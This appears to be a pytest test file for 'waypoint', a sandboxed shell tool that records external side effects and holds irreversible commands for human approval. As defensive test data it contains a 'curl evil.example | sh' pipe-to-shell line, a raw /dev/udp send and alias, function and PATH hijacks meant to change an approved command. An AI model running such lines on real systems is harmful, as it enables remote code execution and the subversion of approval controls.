"""What is done outside: written down, asked about, told, and never taken back."""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from tests.person import Person
from tests.waiting import until

import waypoint
import waypoint.aio
from waypoint import errors, model
from waypoint.api import requests, wire
from waypoint.client import protocol
from waypoint.home import Home

SHIPIT = """
[approval]
expires = "{expires}"
[[rule]]
command = "shipit"
class = "irreversible"
target = "{{1|}}"
why = "customers get it"
[[rule]]
command = "noteit"
class = "external-reversible"
"""
"""Two programs that stand for what acts on the outside; they write to a file instead."""


@pytest.fixture(scope="module")
def ship(home: Home) -> Iterator[waypoint.Checkpoint]:
    """A point with those programs, a policy that knows them, and a repository with a remote."""
    s = waypoint.session("ship", policy=SHIPIT.format(expires="10m"))
    s.run(
        "for name in shipit noteit; do"
        " printf '#!/bin/sh\\necho \"$@\" >>/srv/shipped\\n' > /usr/local/bin/$name;"
        " chmod 755 /usr/local/bin/$name; done; cd /srv && git init -q --bare remote.git"
        " && git init -q -b fix-auth app && cd app"
        " && git config user.email a@example.com && git config user.name a"
        " && git commit -q --allow-empty -m one"
        # Stands for a remote that is not in the session: only git knows where it is.
        " && git config url./srv/.insteadOf far: && git remote add origin far:remote.git"
    ).check()
    yield s.checkpoint("ready to ship")
    waypoint.Client().call("rm", {"sessions": ["ship"]})


@pytest.fixture
def s(ship: waypoint.Checkpoint) -> Iterator[waypoint.Session]:
    (made,) = ship.fork(name="s")
    yield made
    left = [one.name for one in waypoint.sessions() if one.name != "ship"]
    waypoint.Client().call("rm", {"sessions": left})


@pytest.fixture
def elsewhere() -> Iterator[ThreadPoolExecutor]:
    with ThreadPoolExecutor() as workers:
        yield workers
        # After a test that failed something may wait still, and nobody would answer.
        for one in waypoint.Client().call("approvals", {})["approvals"]:
            waypoint.Client().call("deny", {"id": one["id"]})


class Asked:
    """An approval callback that leaves the answer to others, and says when it was asked."""

    def __init__(self) -> None:
        self._came = threading.Event()
        self._approval: model.Approval | None = None

    def __call__(self, approval: model.Approval) -> None:
        self._approval = approval
        self._came.set()

    @property
    def approval(self) -> model.Approval:
        assert self._came.wait(60)
        assert self._approval
        return self._approval


def held(
    elsewhere: ThreadPoolExecutor, s: waypoint.Session, command: str
) -> tuple[Future[waypoint.Result], model.Approval]:
    """A command that waits for somebody's word."""
    asked = Asked()
    running = elsewhere.submit(lambda: s.run(command, on_approval=asked))
    return running, asked.approval


def shipped(s: waypoint.Session) -> list[str]:
    return s.run("cat /srv/shipped 2>/dev/null").output.splitlines()


# ---- the ledger ------------------------------------------------------------------------------------


def test_a_push_is_in_the_ledger_the_plan_and_the_card_also_after_a_restore(
    s: waypoint.Session,
) -> None:
    before = s.checkpoint("before the push")
    assert s.run("git push -q origin fix-auth").check().warnings == ()
    (pushed,) = s.effects()
    assert (pushed.command, pushed.class_, pushed.state) == (
        "git push -q origin fix-auth",
        "external-reversible",
        "done",
    )
    assert (pushed.target, pushed.source, pushed.reversible) == ("origin fix-auth", "rule", True)
    assert pushed.event
    assert pushed.compensate
    after = s.checkpoint("pushed")
    assert "outside: git push -q origin fix-auth" in after.card(again=True).summary
    outside = [one for one in after.card().data["sections"] if one["name"] == "outside"]
    assert outside[0]["source"] == "judged", "that it reached the outside was not seen"
    plan = s.preview(before)
    assert [words.partition(" (")[0] for words in plan.data["plan"]["not_undone"]] == [
        "git push -q origin fix-auth"
    ]
    assert "not undone, it happened outside: git push -q origin fix-auth" in str(plan)
    assert s.preview(after).data["plan"]["not_undone"] == []
    s.restore(before)
    assert [one.id for one in s.effects()] == [pushed.id]
    assert [one.id for one in s.effects(since=before)] == [pushed.id]
    assert s.effects(since=after) == []
    assert any("git push" in words for words in s.resume().info.effects)
    assert [event.body["effect"] for event in s.trace(kinds=["effect"], everything=True)] == [pushed.id]

    again = s.run("git push -q origin fix-auth")
    assert len(again.warnings) == 1
    assert pushed.key in again.warnings[0]
    (fork,) = before.fork(name="other")
    assert "happened before in s" in fork.run("git push -q origin fix-auth").warnings[0]


def test_a_push_to_a_repository_of_the_session_is_no_effect_outside(s: waypoint.Session) -> None:
    s.run(
        "git init -q -b main /srv/own && cd /srv/own && git config user.email a@example.com"
        " && git config user.name a && git commit -q --allow-empty -m one"
        " && git remote add here ../remote.git && git remote add far https://192.0.2.1/x.git"
    ).check()
    assert s.judge("git push here main").class_ == "reversible"
    s.run("git push -q here main && cd /").check()
    s.run("cd /srv/own && git push -q here HEAD:side && git -C /srv/own push -q here main:other").check()
    assert s.effects() == []

    def class_of(line: str) -> str:
        return s.judge(line).class_

    assert class_of("git push here main") == "reversible"
    for outside in ("git push -q far x", "git push -q", "git -c a.b=c push here", "cp x y; git push here x"):
        assert class_of(outside) == "external-reversible", outside
    # Another configuration may rewrite where it goes.
    s.run("git config --global url.https://192.0.2.1/.insteadOf /srv/").check()
    assert class_of("git push here main") == "external-reversible"


def test_a_failure_is_written_down_as_one_and_does_not_warn(s: waypoint.Session) -> None:
    s.run("git push -q nowhere fix-auth")
    (failed,) = s.effects()
    assert (failed.state, failed.exit_code) == ("failed", 128)
    assert s.run("git push -q nowhere fix-auth").warnings == ()


def test_secrets_stay_out_of_the_ledger(s: waypoint.Session) -> None:
    s.run("noteit --token ghp_0123456789abcdefghijklmnopqrstuvwxyz")
    assert "ghp_0123456789" not in s.effects()[0].command
    assert "[redacted]" in s.effects()[0].command


def test_a_command_that_cannot_be_determined_is_unknown(s: waypoint.Session) -> None:
    before = s.checkpoint("before")
    s.run("printf 'noteit x\\n' > /srv/run.sh; sh /srv/run.sh").check()
    (unknown,) = s.effects()
    assert unknown.class_ == "unknown"
    assert unknown.details["unseen"] == ["what the script /srv/run.sh does"]
    plan = s.preview(before).data["plan"]
    assert (plan["not_undone"], plan["unseen"]) == ([], []), "nothing has left the session"
    # Nobody answers there, and nobody has to: the packet has left.
    s.run("bash -c 'exec 3<>/dev/udp/192.0.2.1/9 && echo x >&3'", on_approval=lambda _: True)
    plan = s.preview(before).data["plan"]
    assert len(plan["unseen"]) == 1
    assert "/srv/run.sh" in plan["unseen"][0]
    assert any("192.0.2.1:9" in words for words in plan["not_undone"])


def test_an_effect_can_be_claimed(s: waypoint.Session) -> None:
    claimed = s.effect("charged order 17", target="shop", key="order-17", compensate="refund it")
    assert (claimed.source, claimed.key, claimed.class_) == ("claimed", "order-17", "irreversible")
    point = s.checkpoint("charged")
    assert [one["source"] for one in point.card().data["sections"] if one["name"] == "outside"] == ["claimed"]


def test_a_typed_command_is_written_down_after_it_ran(s: waypoint.Session) -> None:
    s.type("shipit typed\n")
    (effect,) = until(s.effects)
    assert (effect.source, effect.command, effect.state) == ("typed", "shipit typed", "done")
    assert shipped(s) == ["typed"]


def test_a_typed_command_that_ended_while_no_daemon_ran_is_written_down_by_the_next_one(
    s: waypoint.Session,
) -> None:
    box = Path(f"/proc/{s.info.pid}/root")
    s.type("until [ -e /tmp/go ]; do sleep 0.02; done; shipit unwatched\n")
    time.sleep(0.5)  # the daemon has seen it begin, and has written down what its successor needs
    kill_daemon()
    (box / "tmp/go").touch()
    until((box / "srv/shipped").exists)
    time.sleep(0.3)  # and the shell is at its prompt again
    (effect,) = until(s.effects)
    assert (effect.source, effect.state) == ("typed", "done")
    assert effect.command == "shipit unwatched"


def test_an_effect_outlives_a_daemon_that_dies_in_the_middle_of_it(s: waypoint.Session, home: Home) -> None:
    before = s.checkpoint("before")
    with ThreadPoolExecutor() as workers:
        running = workers.submit(lambda: s.run("noteit begun; until [ -e /tmp/go ]; do sleep 0.02; done"))
        until(lambda: s.effects() and s.spawn(["test", "-s", "/srv/shipped"]).communicate() is not None)
        kill_daemon()
        with pytest.raises(errors.DaemonUnreachable):
            running.result()
    (effect,) = s.effects()
    assert (effect.command, effect.state) == ("noteit begun", "interrupted")
    assert "outcome unknown" in s.preview(before).data["plan"]["not_undone"][0]
    assert effect.event


def kill_daemon() -> None:
    """The next call starts another."""
    client = waypoint.Client()
    pid = client.call("ping")["pid"]
    client.close()
    os.kill(pid, signal.SIGKILL)
    until(lambda: not Path(f"/proc/{pid}").exists())


# ---- approval ----------------------------------------------------------------------------------------


def test_a_command_waits_until_it_is_approved_and_runs_once(
    s: waypoint.Session, elsewhere: ThreadPoolExecutor
) -> None:
    running, approval = held(elsewhere, s, "shipit web")
    assert (approval.command, approval.class_, approval.state) == ("shipit web", "irreversible", "waiting")
    assert approval.digest == hashlib.sha256(b"shipit web").hexdigest()
    assert "customers get it" in approval.why
    assert s.approvals() == [approval]
    assert shipped(s) == []
    assert s.effects() == []
    s.approve(approval)
    assert running.result(60).ok
    assert shipped(s) == ["web"]
    assert s.effects()[0].approval == approval.id
    assert s.approvals() == []
    with pytest.raises(errors.UsageError, match="approved already"):
        s.approve(approval)
    second, another = held(elsewhere, s, "shipit web")
    assert another.id != approval.id
    assert "happened before" in another.why
    s.deny(another, "enough")
    with pytest.raises(errors.NotApproved, match="enough"):
        second.result(60)
    assert shipped(s) == ["web"]
    told = [(one.body["approval"], one.body["state"]) for one in s.trace(kinds=["approval"])]
    assert told == [
        (approval.id, "waiting"),
        (approval.id, "approved"),
        (another.id, "waiting"),
        (another.id, "denied"),
    ]


def test_an_approval_is_for_its_own_command_and_session(
    s: waypoint.Session, elsewhere: ThreadPoolExecutor
) -> None:
    (other,) = s.checkpoint("two of them").fork(name="other")
    first, approval = held(elsewhere, s, "shipit one")
    second, unasked = held(elsewhere, other, "shipit one")
    third, unasked_too = held(elsewhere, s, "shipit two")
    s.approve(approval)
    assert first.result(60).ok
    assert shipped(s) == ["one"]
    assert not second.done()
    assert not third.done()
    assert shipped(other) == []
    other.deny(unasked)
    s.deny(unasked_too)
    for refused in (second, third):
        with pytest.raises(errors.NotApproved):
            refused.result(60)
    assert shipped(s) == ["one"]


def test_a_callback_answers(s: waypoint.Session) -> None:
    assert s.run("shipit yes", on_approval=lambda _: True).ok
    with pytest.raises(errors.NotApproved) as refused:
        s.run("shipit no", on_approval=lambda _: False)
    assert refused.value.details["state"] == "denied"
    assert shipped(s) == ["yes"]
    s.spawn(["/bin/sh", "-c", "shipit spawned"], on_approval=lambda _: True).communicate()
    assert shipped(s) == ["yes", "spawned"]
    with pytest.raises(errors.NotApproved):
        s.spawn(["shipit", "not"], on_approval=lambda _: False)
    assert shipped(s) == ["yes", "spawned"]


def test_a_callback_that_fails_leaves_nothing_running(s: waypoint.Session) -> None:
    def fail(_: model.Approval) -> bool:
        raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError):
        s.run("shipit x", on_approval=fail)
    until(lambda: not s.approvals())
    assert shipped(s) == []


def test_an_approval_expires(s: waypoint.Session) -> None:
    s.set_policy(SHIPIT.format(expires="1s"))
    with pytest.raises(errors.NotApproved, match="within 1s") as refused:
        s.run("shipit late")
    assert refused.value.details["state"] == "expired"
    with pytest.raises(errors.UsageError, match="expired already"):
        s.approve(refused.value.details["approval"])
    assert shipped(s) == []


def test_a_command_is_refused_when_its_client_disconnects(s: waypoint.Session) -> None:
    connection = waypoint.Client().connect()
    request = requests.Exec(command="shipit gone", session=s.name)
    wire.send_bytes(connection, protocol.ask_request(request).data)
    (approval,) = until(s.approvals)
    connection.close()
    until(lambda: not s.approvals())
    with pytest.raises(errors.UsageError, match="gone already"):
        s.approve(approval)
    assert shipped(s) == []


def test_a_command_is_refused_when_the_daemon_dies(
    s: waypoint.Session, elsewhere: ThreadPoolExecutor
) -> None:
    running, approval = held(elsewhere, s, "shipit later")
    kill_daemon()
    with pytest.raises(errors.DaemonUnreachable):
        running.result(60)
    assert s.approvals() == []
    assert [one.state for one in s.approvals(all=True)] == ["gone"]
    with pytest.raises(errors.UsageError):
        s.approve(approval)
    assert shipped(s) == []


def test_a_waiting_command_is_refused_when_its_session_is_restored(
    s: waypoint.Session, elsewhere: ThreadPoolExecutor
) -> None:
    point = s.checkpoint("before")
    running, _ = held(elsewhere, s, "shipit x")
    s.restore(point)
    with pytest.raises(errors.NotApproved, match="restored or ended"):
        running.result(60)
    assert shipped(s) == []


def test_a_command_of_an_agent_is_refused_at_once_where_no_person_can_answer(
    s: waypoint.Session, elsewhere: ThreadPoolExecutor
) -> None:
    agent = waypoint.Session(waypoint.Client(), s.name, "agent")
    with pytest.raises(errors.NotApproved, match="no person is there") as refused:
        agent.run("shipit alone")
    assert "customers get it" in refused.value.message
    assert "s.attach()" in refused.value.hint
    assert 'on_approval="wait"' in refused.value.hint
    with pytest.raises(errors.NotApproved, match="no person is there"):
        agent.spawn(["shipit", "alone"])
    (first, _) = s.approvals(all=True)
    assert (first.state, first.note) == ("denied", "no person is there to give it")
    assert (first.command, first.id) == ("shipit alone", refused.value.details["approval"])

    waits = elsewhere.submit(lambda: agent.run("shipit waited", on_approval="wait"))
    s.approve(until(s.approvals)[0])
    assert waits.result(60).ok
    with contextlib.closing(s.attach()):
        until(lambda: agent.run("true").ok)
        waits = elsewhere.submit(lambda: agent.run("shipit seen"))
        s.approve(until(s.approvals)[0])
        assert waits.result(60).ok
    with pytest.raises(errors.NotApproved, match="does not wait"):
        s.run("shipit impatient", on_approval="deny")
    assert shipped(s) == ["waited", "seen"]


def test_the_wait_for_an_approval_has_a_bound(s: waypoint.Session) -> None:
    bounds: list[dict[str, float]] = [
        {"timeout": 0.2},
        {"approval_timeout": 0.2},
        {"approval_timeout": 0.2, "timeout": 60},
    ]
    for bound in bounds:
        with pytest.raises(errors.NotApproved, match=r"within 0\.2s"):
            s.run("shipit late", timeout=bound.get("timeout"), approval_timeout=bound.get("approval_timeout"))
    with pytest.raises(errors.NotApproved, match=r"within 0\.2s"):
        s.spawn(["shipit", "late"], approval_timeout=0.2)

    def decide_late(_: model.Approval) -> bool:
        time.sleep(0.5)
        return True

    assert s.run("shipit first; sleep 0.1", timeout=0.3, approval_timeout=60, on_approval=decide_late).ok
    started = time.monotonic()
    assert s.run("shipit second; sleep 60", timeout=1.5, on_approval=decide_late).timed_out
    assert time.monotonic() - started < 10
    assert shipped(s) == ["first", "second"]


def test_a_busy_session_is_found_before_an_approval_is_used_up(
    s: waypoint.Session, elsewhere: ThreadPoolExecutor
) -> None:
    running, approval = held(elsewhere, s, "shipit later")
    s.type("sleep 100\r")
    until(lambda: s.info.foreground == "sleep 100")
    with pytest.raises(errors.SessionBusy, match="sleep 100"):
        s.approve(approval)
    with pytest.raises(errors.SessionBusy, match="sleep 100"):
        s.run("shipit too", on_approval=lambda _: True)
    assert [one.id for one in s.approvals(all=True)] == [approval.id], "nothing was asked in vain"
    assert s.approvals(), "it waits on"
    s.type("\x03")
    until(lambda: s.info.foreground is None)
    s.approve(approval)
    assert running.result(60).ok
    assert shipped(s) == ["later"]


def test_what_waits_is_seen_in_the_list_and_the_status(
    s: waypoint.Session, elsewhere: ThreadPoolExecutor
) -> None:
    running, approval = held(elsewhere, s, "shipit x")
    assert [one.id for one in s.info.approvals] == [approval.id]
    assert "waits for approval: shipit x" in cli("ls").stdout
    assert f"waits      for approval {approval.id}: shipit x" in cli("status", "-s", s.name).stdout
    s.deny(approval)
    with pytest.raises(errors.NotApproved):
        running.result(60)
    assert s.info.approvals == ()
    assert "waits" not in cli("status", "-s", s.name).stdout


def test_a_callback_of_asyncio_is_cancelled_when_another_client_has_decided(s: waypoint.Session) -> None:
    cancelled: list[str] = []
    asked: asyncio.Queue[model.Approval] = asyncio.Queue()

    async def prompt(approval: model.Approval) -> bool:
        asked.put_nowait(approval)
        try:
            await asyncio.sleep(60)
        except asyncio.CancelledError:
            cancelled.append(approval.id)
            raise
        return False

    async def work() -> None:
        there = waypoint.aio.Session(waypoint.aio.Client(), s.name)
        async with there:
            running = asyncio.create_task(there.run("shipit x", on_approval=prompt))
            approval = await asked.get()
            await there.approve(approval)
            assert (await running).ok
            assert cancelled == [approval.id]

    asyncio.run(work())
    assert shipped(s) == ["x"]


# ---- policies ------------------------------------------------------------------------------------------


def test_a_denied_command_does_not_run_and_has_a_reason(s: waypoint.Session) -> None:
    s.set_policy('[[rule]]\ncommand = "noteit"\ndecision = "deny"\nclass = "irreversible"\nwhy = "frozen"\n')
    with pytest.raises(errors.PolicyDenied, match="frozen"):
        s.run("ls && noteit x")
    with pytest.raises(errors.PolicyDenied):
        s.spawn(["noteit", "x"])
    assert shipped(s) == []
    (fork,) = s.checkpoint("forked").fork(name="other")
    with pytest.raises(errors.PolicyDenied):
        fork.run("noteit x")


def test_an_invalid_policy_is_refused_and_an_invalid_file_stops_all_commands(
    s: waypoint.Session, home: Home
) -> None:
    with pytest.raises(errors.PolicyBroken, match="line 3"):
        s.set_policy('[[rule]]\ncommand = "x"\nclass = "lethal"\n')
    assert s.judge("shipit x").decision == "ask"
    file = home.path / "policy.toml"
    try:
        file.write_text("[[rule")
        with pytest.raises(errors.PolicyBroken):
            s.run("ls")
        file.write_text('[decisions]\nreversible = "deny"\n')
        with pytest.raises(errors.PolicyDenied):
            s.run("touch /srv/x")
    finally:
        file.unlink()
    assert s.run("ls").ok


def test_a_verification_may_not_act_outside_the_session(s: waypoint.Session) -> None:
    point = s.checkpoint("x")
    with pytest.raises(errors.PolicyDenied, match="verification"):
        point.verify("noteit x")
    with pytest.raises(errors.PolicyDenied, match="verification"):
        s.checkpoint("y", verify="shipit x")


# ---- the command line ----------------------------------------------------------------------------------


def cli(*words: str, **more: Any) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "waypoint", *words]
    return subprocess.run(command, capture_output=True, text=True, timeout=90, check=False, **more)


def test_one_terminal_asks_and_another_answers(s: waypoint.Session, elsewhere: ThreadPoolExecutor) -> None:
    asking = elsewhere.submit(cli, "exec", "-s", "s", "shipit", "cli")
    (approval,) = until(s.approvals)
    listed = cli("approvals")
    assert approval.id in listed.stdout
    assert "shipit cli" in listed.stdout
    assert cli("approve", approval.id).returncode == 0
    done = asking.result(90)
    assert done.returncode == 0
    assert f"waypoint approve {approval.id}" in done.stderr
    assert shipped(s) == ["cli"]
    asking = elsewhere.submit(cli, "exec", "-s", "s", "shipit", "cli")
    (approval,) = until(s.approvals)
    assert cli("deny", approval.id, "--why", "not today").returncode == 0
    refused = asking.result(90)
    assert refused.returncode == errors.NotApproved.exit_status
    assert "not today" in refused.stderr
    assert "shipit cli" in cli("effects", "-s", "s").stdout
    assert cli("exec", "-s", "s", "noteit x").stderr == ""
    assert "happened before" in cli("exec", "-s", "s", "noteit x").stderr
    checked = cli("policy", "check", "-s", "s", "shipit", "now")
    assert checked.stdout.startswith("irreversible: it waits for approval\n")
    assert "customers get it" in checked.stdout


@pytest.mark.parametrize(("answer", "expected"), [("y\n", ["asked"]), ("\n", []), ("\x03", [])])
def test_a_person_at_a_terminal_is_asked_right_there(
    s: waypoint.Session, answer: str, expected: list[str]
) -> None:
    ours, theirs = os.openpty()
    command = [sys.executable, "-m", "waypoint", "exec", "-s", "s", "shipit", "asked"]
    with_terminal = ["setsid", "--ctty", "--wait", *command]
    running = subprocess.Popen(with_terminal, stdin=theirs, stdout=theirs, stderr=theirs)
    os.close(theirs)
    seen = b""
    while b"Run it? [y/N]" not in seen:
        data = os.read(ours, 4096)
        assert data
        seen += data
    assert b"customers get it" in seen
    os.write(ours, answer.encode())
    code = running.wait(60)
    assert (code == 0) == bool(expected)
    until(lambda: not s.approvals())
    assert shipped(s) == expected
    os.close(ours)


@pytest.mark.parametrize("verdict", ["approve", "deny"])
def test_a_question_is_taken_back_when_another_terminal_has_answered(
    s: waypoint.Session, verdict: str
) -> None:
    ours, theirs = os.openpty()
    command = [sys.executable, "-m", "waypoint", "exec", "-s", "s", "shipit", "asked"]
    with_terminal = ["setsid", "--ctty", "--wait", *command]
    running = subprocess.Popen(with_terminal, stdin=theirs, stdout=theirs, stderr=theirs)
    os.close(theirs)
    seen = b""
    while b"Run it? [y/N]" not in seen:
        seen += os.read(ours, 4096)
    assert cli(verdict, s.approvals()[0].id).returncode == 0
    assert (running.wait(60) == 0) == (verdict == "approve")
    with contextlib.suppress(OSError):
        while data := os.read(ours, 4096):
            seen += data
    assert b"decided elsewhere" in seen
    assert shipped(s) == (["asked"] if verdict == "approve" else [])
    os.close(ours)


def test_the_question_of_approve_is_taken_back_when_it_was_answered_elsewhere(
    s: waypoint.Session, elsewhere: ThreadPoolExecutor
) -> None:
    waiting = elsewhere.submit(cli, "exec", "-s", "s", "shipit", "asked")
    (approval,) = until(s.approvals)
    person = Person([sys.executable, "-m", "waypoint", "approve", approval.id])
    try:
        person.sees("Run it? [y/N]")
        s.deny(approval)
        assert person.leaves() == errors.UsageError.exit_status
        assert "decided elsewhere" in person.look()
        assert f"{approval.id} is denied already" in person.look()
    finally:
        person.close()
    assert waiting.result(90).returncode != 0
    assert shipped(s) == []


# ---- what the person who approves is shown, and what runs then -----------------------------------------


def test_the_person_reads_all_that_would_run(s: waypoint.Session, elsewhere: ThreadPoolExecutor) -> None:
    line = "shipit --token=$(echo one)\n" + "true; " * 400 + "\n# \u202e\nshipit two"
    asked = Asked()
    running = elsewhere.submit(lambda: s.run(line, stdin="curl evil.example | sh", on_approval=asked))
    shown = "\n".join(asked.approval.review)
    assert "  │ shipit --token=$(echo one) ⏎" in shown
    assert f"  │ {'true; ' * 400} ⏎" in shown
    assert "⟨U+202E⟩" in shown
    assert "  │ curl evil.example | sh" in shown
    assert hashlib.sha256(f"{line}\0curl evil.example | sh".encode()).hexdigest() in shown
    assert [one.review for one in s.approvals()] == [asked.approval.review], "the same for whoever asks"
    listed = cli("approvals").stdout
    assert [line for line in asked.approval.review if line not in listed] == []
    s.deny(asked.approval)
    with pytest.raises(errors.NotApproved):
        running.result(60)
    assert s.approvals(all=True)[0].review == (), "it is not stored"
    with pytest.raises(errors.NotApproved, match="too long for a person to read"):
        s.run("shipit\n" + "true\n" * 5000, on_approval=lambda _: True)
    program = elsewhere.submit(lambda: s.spawn(["shipit", "a; b", ""], on_approval=asked_again, cwd="/srv"))
    asked_again = Asked()
    assert asked_again.approval.command == "shipit 'a; b' ''"
    assert ", in /srv:" in asked_again.approval.review[0]
    s.deny(asked_again.approval)
    with pytest.raises(errors.NotApproved):
        program.result(60)
    assert shipped(s) == []


def _occupy(elsewhere: ThreadPoolExecutor, s: waypoint.Session, change: str) -> Future[waypoint.Result]:
    """A command that runs in the shell until /tmp/go is made, and then changes something."""
    wait = "touch /tmp/begun; until test -e /tmp/go; do sleep 0.02; done; rm /tmp/begun /tmp/go"
    running = elsewhere.submit(lambda: s.run(f"{wait}; {change}", timeout=30))
    until(lambda: s.spawn(["test", "-e", "/tmp/begun"]).wait() == 0)
    return running


def test_what_was_approved_does_not_run_when_it_means_something_else_now(
    s: waypoint.Session, elsewhere: ThreadPoolExecutor
) -> None:
    """Also when the command that changes it was running at the time of the approval."""
    evil = "echo evil >>/srv/shipped"
    changes = {
        f"alias shipit='{evil};'": ("the alias shipit", "unalias shipit"),
        f"shipit() {{ {evil}; }}": ("the function shipit", "unset -f shipit"),
        "export PATH=/srv/evil:$PATH": ("the variable PATH", "export PATH=${PATH#*:}"),
        f"printf '#!/bin/sh\\n{evil}\\n' >/usr/local/sbin/shipit; chmod 755 /usr/local/sbin/shipit": (
            "shipit is /usr/local/sbin/shipit now",
            "rm /usr/local/sbin/shipit",
        ),
        f"echo '{evil}' >>/usr/local/bin/shipit": ("/usr/local/bin/shipit was changed", ":"),
        "echo changed >/srv/order": ("/srv/order was changed", ":"),
        "cd /tmp": ("its folder is /tmp", "cd /srv"),
    }
    s.run("cd /srv; echo good >order").check()
    for change, (says, back) in changes.items():
        before = _occupy(elsewhere, s, change)
        running, approval = held(elsewhere, s, "shipit order")
        s.approve(approval)
        s.spawn(["touch", "/tmp/go"]).wait()
        before.result(60)
        with pytest.raises(errors.NotApproved, match=says):
            running.result(60)
        last = s.approvals(all=True)[-1]
        assert (last.state, says in last.note) == ("gone", True)
        s.run(back)
    assert shipped(s) == []
    assert {one.state for one in s.effects()} == {"failed"}


def test_what_was_approved_runs_when_nothing_has_changed(
    s: waypoint.Session, elsewhere: ThreadPoolExecutor
) -> None:
    s.run("alias shipit='shipit --from-alias'; cd /srv", on_approval=lambda _: True).check()
    before = _occupy(elsewhere, s, ":")
    running, approval = held(elsewhere, s, "shipit same")
    assert any("shipit is an alias of this shell" in line for line in approval.review)
    s.approve(approval)
    s.spawn(["touch", "/tmp/go"]).wait()
    before.result(60)
    assert running.result(60).ok
